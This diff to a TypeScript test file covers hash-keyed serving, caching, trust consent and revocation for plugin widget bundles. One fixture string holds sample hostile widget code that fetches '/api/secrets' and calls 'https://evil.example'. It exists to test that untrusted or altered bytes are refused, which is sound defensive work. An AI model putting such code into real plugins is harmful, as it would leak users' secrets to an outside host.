@@ -2,14 +2,18 @@ import { execFile } from 'node:child_process';
 import { rename, rm, symlink, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
-import { expect, onTestFinished, test, vi } from 'vitest';
+import { beforeEach, expect, onTestFinished, test, vi } from 'vitest';
 import { readFindings } from '../findings.ts';
 import { LARGEST_BUNDLE } from './bundles.ts';
 import { makeFolder, writeFiles } from './folder.test.kit.ts';
 import { sha256Of } from './grants.ts';
 import { createHandler, fileTrustStore } from './index.ts';
+import { readYaml } from './yaml.ts';
 
 vi.mock('../findings.ts', { spy: true });
+vi.mock('./yaml.ts', { spy: true });
+
+beforeEach(() => void vi.mocked(readYaml).mockClear());
 
 const OLD = 'export default function Old() {}';
 const NEW = 'const { apiFetch } = NousViz.widgets; apiFetch("/api/secrets"); fetch("https://evil.example");';
@@ -292,4 +296,55 @@ test('a shim under its own hash is kept for good, under another one for an hour'
   expect((await get(`?v=${hash(text)}`)).headers.get('cache-control')).toMatch(/immutable/);
   const old = await get(`?v=${hash('older')}`);
   expect([old.headers.get('cache-control'), await old.text()]).toEqual(['public, max-age=3600', text]);
+});
+
+test('bytes under their hash come again without disk or store, for those alone who may have them', async () => {
+  const { at, send, consent, write } = await makeHost();
+  await write('Map.js', 'export default 2');
+  await consent();
+  const url = `sales/widget/Map.js?v=${hash('export default 2')}`;
+  const first = await send(url);
+  expect(await first.text()).toBe('export default 2');
+  await rm(at('plugins/sales/dist/Map.js'));
+  await rm(at('data/bundles'), { recursive: true });
+  const again = await send(url);
+  expect([again.status, await again.text()]).toEqual([200, 'export default 2']);
+  expect(Object.fromEntries(again.headers)).toEqual(Object.fromEntries(first.headers));
+  const headers = { 'If-None-Match': first.headers.get('etag')! };
+  expect((await send(url, { headers })).status).toBe(304);
+  // Without the hash the answer is what can be had now.
+  expect((await send('sales/widget/Map.js')).status).toBe(404);
+
+  // The same bytes on another plugin's disk, which nobody trusts.
+  expect((await send(url.replace('sales', 'other'))).status).toBe(403);
+  expect((await send(url.replace('Map.js', 'Side.js'))).status).toBe(404);
+  await send('sales/revoke-frontend-trust', { method: 'POST' });
+  expect((await send(url)).status).toBe(403);
+  await write('Map.js', NEW);
+  await consent();
+  expect((await send(url)).status).toBe(409);
+  await writeFiles(at('plugins/sales'), { 'plugin.yaml': manifest('sales', 'Other.js') });
+  expect((await send(url)).status).toBe(404);
+});
+
+test('bytes that are no longer what their hash says are not kept for later', async () => {
+  const { at, send, consent, write } = await makeHost();
+  await consent();
+  await write('Map.js', NEW);
+  await writeFile(at(`data/bundles/${hash(OLD)}.js`), NEW);
+  const url = `sales/widget/Map.js?v=${hash(OLD)}`;
+  expect((await send(url)).status).toBe(409);
+  await write('Map.js', OLD);
+  expect(await (await send(url)).text()).toBe(OLD);
+});
+
+test('a route about one plugin reads no manifest but its own', async () => {
+  const { at, send, consent } = await makeHost();
+  await consent();
+  await writeFiles(at('plugins'), { 'third/plugin.yaml': 'id: [' });
+  for (const path of ['', '/frontend-components', '/widget/Map.js', `/widget/Map.js?v=${hash(OLD)}`])
+    expect((await send(`sales${path}`)).status).toBe(200);
+  expect((await consent()).status).toBe(200);
+  expect((await send('sales/revoke-frontend-trust', { method: 'POST' })).status).toBe(200);
+  expect(vi.mocked(readYaml).mock.calls.map(([path]) => path)).toEqual([at('plugins/sales/plugin.yaml')]);
 });
